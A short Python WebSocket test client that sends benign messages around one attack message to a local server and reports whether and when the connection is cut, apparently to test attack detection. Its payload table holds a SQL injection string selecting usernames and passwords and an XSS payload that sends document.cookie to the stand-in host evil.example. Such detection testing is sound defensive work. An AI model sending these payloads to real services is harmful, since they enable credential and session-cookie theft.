#!/usr/bin/python3
"""ws_msg_attack.py PORT KIND [SECONDS]

A python3-websockets client that hides one attack among benign messages on
a connection it keeps open: one benign text message, then the attack (KIND
sqli or xss; KIND benign sends a benign one instead), then a benign message
every 50 ms for SECONDS (default 4, at most 30). It never closes first.
Prints one JSON line: when the attack was sent and when (if ever) the
connection broke, on the client's clock (time.monotonic), and how many
messages went out after the attack."""
import asyncio
import json
import sys
import time

import websockets

ATTACKS = {
    "sqli": "id=1' UNION SELECT username, password FROM users--",
    "xss": "<script>document.location='http://evil.example/?c='+document.cookie</script>",
    "benign": "the weather in Lisbon is mild today",
}


async def run(port, kind, seconds):
    url = "ws://127.0.0.1:%d/chat" % port
    out = {"kind": kind, "attack_at": None, "cut_at": None, "after": 0}
    try:
        async with websockets.connect(url, compression=None, ping_interval=None,
                                      origin="http://127.0.0.1:%d" % port,
                                      close_timeout=1) as ws:
            await ws.send("hello, first message")
            await ws.recv()
            await asyncio.sleep(0.2)
            out["attack_at"] = time.monotonic()
            await ws.send(ATTACKS[kind])
            end = time.monotonic() + seconds
            while time.monotonic() < end:
                await ws.send("benign message number %d" % out["after"])
                out["after"] += 1
                await asyncio.wait_for(ws.recv(), 2)
                await asyncio.sleep(0.05)
    except (websockets.ConnectionClosed, OSError, asyncio.TimeoutError) as e:
        out["cut_at"] = time.monotonic()
        out["error"] = type(e).__name__
    print(json.dumps(out), flush=True)


if __name__ == "__main__":
    asyncio.run(run(int(sys.argv[1]), sys.argv[2],
                    min(float(sys.argv[3]) if len(sys.argv) > 3 else 4.0, 30.0)))
